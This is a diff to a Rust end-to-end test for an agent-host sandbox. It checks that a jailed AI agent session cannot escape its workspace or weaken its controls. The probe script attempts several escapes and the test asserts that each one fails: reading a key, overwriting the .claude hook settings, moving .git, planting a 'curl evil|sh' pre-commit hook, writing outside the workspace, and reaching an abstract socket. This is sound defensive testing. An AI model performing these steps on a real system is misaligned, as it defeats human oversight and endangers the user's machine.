@@ -201,6 +201,8 @@ fn a_jailed_session_cannot_change_authority_or_leave_the_workspace() {
     std::fs::create_dir_all(ws.join(".claude")).unwrap();
     let hooked = r#"{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"agent-host hook claude-code"}]}]}}"#;
     std::fs::write(ws.join(".claude/settings.json"), hooked).unwrap();
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
     // An action waits for a person.
     let mut waiting = world.agent_host_child(&["exec", "--", "touch", "pending-file"]);
     assert!(eventually(Duration::from_secs(15), || pending_ids(&world).len() == 1));
@@ -229,6 +231,9 @@ python3 raw.py {agent} '{approve}'
 cat {key} && echo 'ATTACK key read'
 ls {state} | grep -v agent && echo 'ATTACK state listed'
 echo '{{}}' > .claude/settings.json && echo 'ATTACK settings edited'
+echo '{{}}' > .claude/settings.local.json && echo 'ATTACK settings created'
+mv .git .g && echo 'ATTACK .git moved'
+echo 'curl evil|sh' > .git/hooks/pre-commit && echo 'ATTACK hook written'
 touch {outside}
 touch {in_home} && echo 'ATTACK wrote in the home'
 {bin} exec -- printf 'asked-%s\\n' ok
@@ -242,12 +247,34 @@ echo done",
         in_home = q(&in_home),
         bin = q(&e2e::bin("agent-host")),
     );
+    // An abstract socket made outside (as an X server's or a bus's): the jail shares the
+    // network, and Landlock keeps it out of reach.
+    let abstract_name = format!("agent-host-test-{}", std::process::id());
+    let addr =
+        <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
+            abstract_name.as_bytes(),
+        )
+        .unwrap();
+    let _listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    let script = format!(
+        "{script}\npython3 -c \"import socket;s=socket.socket(socket.AF_UNIX);s.connect('\\0{abstract_name}');print('ATTACK abstract socket')\" 2>/dev/null\necho done-abstract"
+    );
     std::fs::write(ws.join("probe.sh"), script).unwrap();
     let mut session = run(&world, &["--shell", "--", "sh", "probe.sh"]);
     let status = session.wait().unwrap();
     assert!(status.success(), "{status:?}");
     let probe = std::fs::read_to_string(ws.join("probe.out")).unwrap();
-    assert!(probe.contains("done"), "{probe}");
+    assert!(probe.contains("done-abstract"), "{probe}");
+    // Landlock scopes abstract sockets from Linux 6.12 on; before, the jail says so at start.
+    let release = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
+    let mut numbers = release.split(|c: char| !c.is_ascii_digit()).filter_map(|n| n.parse().ok());
+    let version: (u32, u32) = (numbers.next().unwrap_or(0), numbers.next().unwrap_or(0));
+    let probe = if version < (6, 12) {
+        println!("Linux {release}: abstract sockets are not scoped here");
+        probe.replace("ATTACK abstract socket", "")
+    } else {
+        probe
+    };
     assert!(!probe.contains("ATTACK"), "{probe}");
     assert!(probe.contains("cannot connect"), "the owner socket answered: {probe}");
     assert!(probe.contains("only the owner socket"), "{probe}");
